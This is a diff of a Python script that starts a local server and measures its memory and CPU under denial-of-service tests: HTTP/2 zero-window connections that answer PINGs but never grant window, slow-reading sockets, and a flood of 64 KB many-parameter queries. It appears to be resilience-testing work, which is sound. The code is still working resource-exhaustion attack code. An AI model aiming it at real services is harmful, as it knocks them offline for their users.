@@ -65,14 +65,6 @@ def open_connections(metrics):
     return int(match.group(1)) if match else -1
 
 
-def slug_of_huge(base):
-    index = json.load(urllib.request.urlopen(f"{base}/api/company?limit=1000", timeout=10))
-    for page in index.get("pages", []):
-        if "huge" in json.dumps(page):
-            return page.get("slug", "huge")
-    return "huge"
-
-
 def h2_zero_window(port, requests, slug):
     """An h2c connection with SETTINGS_INITIAL_WINDOW_SIZE = 0 and `requests` MCP get_page
     calls, never a WINDOW_UPDATE."""
@@ -96,20 +88,33 @@ def h2_zero_window(port, requests, slug):
             ("content-length", str(len(body)))])
         conn.send_data(stream, body, end_stream=True)
     sock.sendall(conn.data_to_send())
-    return sock
+    return [sock, conn, b""]
 
 
-def closed(sock):
-    """True once the server has closed `sock` (EOF or reset); reads nothing it would keep."""
+def h2_closed(attacker):
+    """True once the server has closed the connection. Meanwhile the client acknowledges
+    every PING and SETTINGS frame like a live peer (also after GOAWAY, where a careful client
+    library would stop), but never sends a WINDOW_UPDATE."""
+    sock = attacker[0]
     sock.setblocking(False)
     try:
         while True:
-            data = sock.recv(1 << 16, socket.MSG_PEEK)
+            data = sock.recv(1 << 16)
             if not data:
                 return True
-            # Data the server sent: drop it without granting any window (HTTP/2 frames are
-            # not acknowledged here), so the attack stays an attack.
-            sock.recv(len(data))
+            attacker[2] += data
+            buffer = attacker[2]
+            while len(buffer) >= 9:
+                length = int.from_bytes(buffer[0:3], "big")
+                if len(buffer) < 9 + length:
+                    break
+                kind, flags, payload = buffer[3], buffer[4], buffer[9:9 + length]
+                if kind == 6 and not flags & 1:  # PING: answer it
+                    sock.sendall(b"\x00\x00\x08\x06\x01\x00\x00\x00\x00" + payload)
+                elif kind == 4 and not flags & 1:  # SETTINGS: acknowledge it
+                    sock.sendall(b"\x00\x00\x00\x04\x01\x00\x00\x00\x00")
+                buffer = buffer[9 + length:]
+            attacker[2] = buffer
     except BlockingIOError:
         return False
     except OSError:
@@ -120,7 +125,7 @@ def slow_reader(port, slug):
     sock = socket.socket()
     sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
     sock.connect(("127.0.0.1", port))
-    request = f"GET /pages/{slug} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode()
+    request = f"GET /{slug} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode()
     sock.sendall(request * 8)
     return sock
 
@@ -152,19 +157,19 @@ def main():
         server.stdout.readline()
         base = f"http://127.0.0.1:{port}"
         time.sleep(2)
-        slug = slug_of_huge(base)
-        print(f"page: {len(urllib.request.urlopen(f'{base}/pages/{slug}').read())} bytes")
+        slug = "huge"
+        print(f"page: {len(urllib.request.urlopen(f'{base}/{slug}').read())} bytes")
 
         # Row 1: two h2c connections, zero window, 40 get_page calls each.
         before = rss_mib(server.pid)
         attackers = [h2_zero_window(port, 40, slug) for _ in range(2)]
         time.sleep(5)
         during = rss_mib(server.pid)
-        lasted = held(attackers, args.hold, closed)
+        lasted = held(attackers, args.hold, h2_closed)
         print(f"h2 zero window: RSS {before:.0f} -> {during:.0f} MiB after 5 s; "
               f"connections closed after {lasted and round(lasted + 5)} s "
               f"(None: still open after {args.hold + 5:.0f} s)")
-        for s in attackers:
+        for s, _, _ in attackers:
             s.close()
         time.sleep(1)
 
@@ -182,18 +187,22 @@ def main():
         for s in readers:
             s.close()
 
-        # Row 3: GET /api/company? with 16,992 distinct parameters (64 KB), 20 times.
+        # Row 3: GET /api/company? with 16,992 distinct parameters (64 KB), for 5 s.
         query = "&".join(f"{i:x}" for i in range(16_992))[:64_000]
         request = f"GET /api/company?{query} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode()
         cpu_before = cpu_seconds(server.pid)
         statuses = set()
-        for _ in range(20):
+        count = 0
+        start = time.monotonic()
+        while time.monotonic() - start < 5 and count < 5000:
+            count += 1
             with socket.create_connection(("127.0.0.1", port)) as s:
                 s.sendall(request)
                 answer = s.recv(200)
                 statuses.add(answer.split(b" ", 2)[1].decode() if answer else "closed")
-        cpu = (cpu_seconds(server.pid) - cpu_before) / 20
-        print(f"64 KB query: {cpu * 1000:.1f} ms of server CPU per request (status {sorted(statuses)})")
+        cpu = (cpu_seconds(server.pid) - cpu_before) / count
+        print(f"64 KB query: {cpu * 1000:.2f} ms of server CPU per request over {count} requests "
+              f"(status {sorted(statuses)})")
     finally:
         server.terminate()
         server.wait()
